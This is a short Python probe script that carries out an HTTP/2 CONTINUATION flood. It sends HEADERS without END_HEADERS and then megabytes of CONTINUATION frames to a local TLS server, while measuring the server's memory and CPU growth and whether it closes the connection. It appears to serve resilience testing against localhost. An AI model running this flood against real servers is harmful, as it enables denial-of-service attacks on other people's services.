"""CONTINUATION flood probe: HEADERS without END_HEADERS, then CONTINUATION frames (no END_HEADERS) until closed or MB sent."""
import socket, ssl, sys, time, select, os
from hyperframe.frame import HeadersFrame, ContinuationFrame, SettingsFrame
import hpack
port, mb, pid = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
def rss(p):
    tot = 0
    for q in [p] + [int(x) for t in os.listdir(f"/proc/{p}/task") for x in open(f"/proc/{p}/task/{t}/children").read().split()]:
        for line in open(f"/proc/{q}/status"):
            if line.startswith("VmRSS"): tot += int(line.split()[1])
    return tot // 1024
def cpu(p):
    f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split(); return (int(f[11]) + int(f[12])) / 100
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE; ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
hf = HeadersFrame(1); hf.flags.add("END_STREAM")
hf.data = hpack.Encoder().encode([(":method", "GET"), (":path", "/bench/obj"), (":scheme", "https"), (":authority", "x")])
s.sendall(hf.serialize())
chunk = ContinuationFrame(1, data=(b"\x00\x03foo\x03bar" * 1800)[:16384]).serialize()
r0, c0, t0, sent, how = rss(pid), cpu(pid), time.monotonic(), 0, "still open"
try:
    while sent < mb * 1024 * 1024:
        s.sendall(chunk * 16); sent += len(chunk) * 16
        if select.select([s], [], [], 0)[0]:
            d = s.recv(65536)
            if not d: how = "closed by server"; break
            if b"\x07" in d[3:4] or len(d) > 0: pass
except (ConnectionResetError, BrokenPipeError, ssl.SSLError) as e:
    how = f"closed by server ({type(e).__name__})"
time.sleep(0.5)
print(f"port {port}: sent {sent/1048576:.1f} MiB of CONTINUATION in {time.monotonic()-t0:.2f}s -> {how}; server RSS {r0}->{rss(pid)} MiB; server CPU +{cpu(pid)-c0:.2f}s")
